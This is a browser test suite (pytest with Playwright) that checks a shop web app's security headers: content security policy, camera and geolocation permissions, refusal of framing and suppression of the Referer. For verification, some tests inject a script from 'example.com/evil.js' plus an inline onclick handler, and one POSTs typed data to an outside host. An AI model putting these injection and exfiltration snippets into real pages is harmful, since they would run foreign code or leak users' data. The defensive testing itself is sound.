"""The headers of the pages, as a browser takes them: everything of ours works under them, and nothing else does."""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.suite import RunningSuite

pytestmark = pytest.mark.browser

PATHS = ("/", "/cashier", "/reception", "/enrol", "/hq", "/me", "/balance", "/api/v1/docs")
# Told by the document itself, before any script of it runs.
_LISTEN = """window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
});"""


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningSuite]:
    with RunningSuite(tmp_path_factory.mktemp("shop")) as suite:
        yield suite


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(locale="en-GB")
    context.add_init_script(_LISTEN)
    yield context.new_page()
    context.close()


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.violations")
    return found


@pytest.mark.parametrize("path", PATHS)
def test_nothing_of_a_page_is_against_its_own_policy(shop: RunningSuite, page: Page, path: str) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    answer = page.goto(f"{shop.url}{path}", wait_until="networkidle")
    assert answer is not None
    assert answer.status == 200
    # It draws itself, so its scripts and styles were let in.
    expect(page.locator("body")).to_have_text(re.compile(r"\w{3}"), use_inner_text=True)
    assert violations(page) == []
    # From this host alone; what a page makes of its own bytes is no request of anybody.
    assert [url for url in asked if not url.startswith((shop.url, "data:", "blob:"))] == []


def test_a_guest_is_served_under_the_policy(shop: RunningSuite, page: Page) -> None:
    """Scripts, styles, pictures, the worker that reads codes and the API: a whole visit breaks no rule."""
    enrolled = shop.station("riga").post("/members", {"phone": "26113377", "given_name": "Marta", "locale": "en"}).json
    shop.wait_for_events()
    page.goto(f"{shop.url}/cashier#station={shop.tokens['riga']}")
    expect(page.get_by_label("Phone, card or last 4 digits").first).to_be_visible()
    page.keyboard.type("26113377", delay=60)
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Marta")).to_be_visible()
    assert violations(page) == []
    page.goto(enrolled["balance_url"].replace("http://127.0.0.1:8000", shop.url))
    expect(page.get_by_role("img").first).to_be_visible()
    assert violations(page) == []


@pytest.mark.parametrize("path", PATHS)
def test_a_script_that_somebody_slips_in_does_not_run_and_is_reported(
    shop: RunningSuite, page: Page, path: str
) -> None:
    page.goto(f"{shop.url}{path}", wait_until="networkidle")
    page.evaluate(
        """() => {
          const inline = document.createElement("script");
          inline.textContent = "window.slipped = true";
          document.body.append(inline);
          const foreign = document.createElement("script");
          foreign.src = "https://example.com/evil.js";
          document.body.append(foreign);
          const button = document.createElement("button");
          button.setAttribute("onclick", "window.slipped = true");
          document.body.append(button);
          button.click();
        }"""
    )
    page.wait_for_function("window.violations.length >= 3")
    assert page.evaluate("window.slipped") is None
    assert {found.split(" ")[0] for found in violations(page)} == {"script-src-elem", "script-src-attr"}


def test_what_is_typed_can_be_sent_to_nobody_else(shop: RunningSuite, page: Page) -> None:
    page.goto(f"{shop.url}/cashier", wait_until="networkidle")
    sent = page.evaluate(
        "fetch('https://example.com/', {method: 'POST', body: 'phones'}).then(() => 'sent', () => 'refused')"
    )
    assert sent == "refused"
    assert violations(page) == ["connect-src https://example.com/"]


def test_the_camera_is_for_our_own_pages_and_the_rest_for_nobody(shop: RunningSuite, page: Page) -> None:
    page.goto(f"{shop.url}/cashier")
    allowed = page.evaluate(
        "['camera', 'microphone', 'geolocation'].map((name) => document.featurePolicy.allowsFeature(name))"
    )
    assert allowed == [True, False, False]


@pytest.mark.parametrize("path", PATHS)
def test_no_page_can_be_framed(shop: RunningSuite, page: Page, tmp_path: Path, path: str) -> None:
    """A frame over which somebody lays buttons of their own: from another site, a page of ours stays empty."""
    with _site(f'<!doctype html><iframe src="{shop.url}{path}"></iframe>') as url:
        page.goto(url, wait_until="networkidle")
        (frame,) = page.frames[1:]
        # What was refused is replaced by the browser's own page, some time after the network is silent.
        frame.wait_for_url("chrome-error://chromewebdata/")


def test_where_somebody_came_from_is_told_to_nobody(shop: RunningSuite, page: Page) -> None:
    """The link of a card is in the address of its page: a Referer would hand it on."""
    with _site("<!doctype html>") as url:
        page.goto(f"{shop.url}/balance#secret", wait_until="networkidle")
        page.evaluate("(url) => { location.href = url; }", url)
        page.wait_for_url(url)
        assert page.evaluate("document.referrer") == ""


class _site:  # noqa: N801 - used as a function
    """Another site, on another port: what a browser takes for another origin."""

    def __init__(self, text: str) -> None:
        content = text.encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *_: object) -> None:
                """Quiet."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    def __enter__(self) -> str:
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()
        return f"http://127.0.0.1:{self._server.server_port}/"

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()
